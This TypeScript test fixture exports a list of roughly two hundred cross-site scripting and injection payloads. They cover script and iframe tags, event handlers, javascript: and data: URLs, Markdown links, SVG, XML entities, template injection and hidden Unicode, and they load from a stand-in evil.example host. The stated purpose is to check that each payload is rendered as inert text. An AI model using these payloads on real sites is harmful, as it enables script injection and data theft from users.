// Two hundred texts that have become script, or a request, somewhere (FAULTS.md T1 and T10): as HTML, Markdown, SVG, URLs,
// and hidden in what is parsed twice. Each one alone must stay a text.

const ELSEWHERE = "https://evil.example/x";
const RUN = "alert(1)";

/** Elements that run something or load something by being there. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=${ELSEWHERE}></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${ELSEWHERE}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}">`,
  `<link rel=prefetch href="${ELSEWHERE}">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<style>@import "${ELSEWHERE}";</style>`,
  `<style>*{background:url(${ELSEWHERE})}</style>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${ELSEWHERE}"/></svg>`,
  `<svg><use href="${ELSEWHERE}#a"/></svg>`,
  `<svg><image href="${ELSEWHERE}"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"/></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>go</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">go</math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<applet code="${ELSEWHERE}"></applet>`,
  `<frameset onload=${RUN}><frame src="${ELSEWHERE}"></frameset>`,
  `<portal src="${ELSEWHERE}"></portal>`,
  `<picture><source srcset="${ELSEWHERE}"><img></picture>`,
  `<video poster="${ELSEWHERE}"><source src="${ELSEWHERE}"></video>`,
  `<track src="${ELSEWHERE}">`,
  `<div style="background:url(${ELSEWHERE})">`,
  `<div style="width:expression(${RUN})">`,
  `<?xml-stylesheet href="javascript:${RUN}"?><a/>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "${ELSEWHERE}">]><x>&y;</x>`,
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is the attack
  "${alert(1)}",
  "<%= system('id') %>",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/** Every one of these attributes runs text. */
const HANDLERS = [
  ["img src=x", "onerror"],
  ["img src=x", "onload"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["audio src=x", "onerror"],
  ["video src=x", "onloadstart"],
  ["marquee", "onstart"],
  ["div tabindex=1", "onfocusin"],
  ["p style=animation-name:x", "onanimationstart"],
  ["a href=#", "onclick"],
  ["x contenteditable", "onblur"],
  ["form", "onsubmit"],
] as const;

const QUOTES = [RUN, `"${RUN}"`, `'${RUN}'`, "&#97;lert(1)"];

/** Schemes that run, each spelled in several ways. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&#x3A;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  ELSEWHERE,
  "https://xn--80ak6aa92e.com/",
  "https://user:pass@evil.example/",
  "tauri://localhost/index.html",
  "ipc://localhost/disconnect",
  "http://ipc.localhost/send_raw",
];

/** Ways in which Markdown leads or loads somewhere. */
const MARKDOWN = [
  (address: string) => `[go](${address})`,
  (address: string) => `![picture](<${address}> "title")`,
  (address: string) => `<${address}>\n\n[go][1]\n\n[1]: ${address}`,
];

export const HOSTILE_PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...HANDLERS.flatMap(([tag, handler]) => QUOTES.map((code) => `<${tag} ${handler}=${code}>`)),
  ...ADDRESSES.flatMap((address) => MARKDOWN.map((written) => written(address))),
  // Hidden characters around and inside of a tag.
  ...["\u202e", "\u200b", "\u{E0041}", "\ufeff", "\u0000", "\u001b]8;;https://evil.example\u0007"].flatMap(
    (mark) => [`${mark}<img src=x onerror=${RUN}>`, `<img${mark}src=x onerror=${RUN}>`],
  ),
];
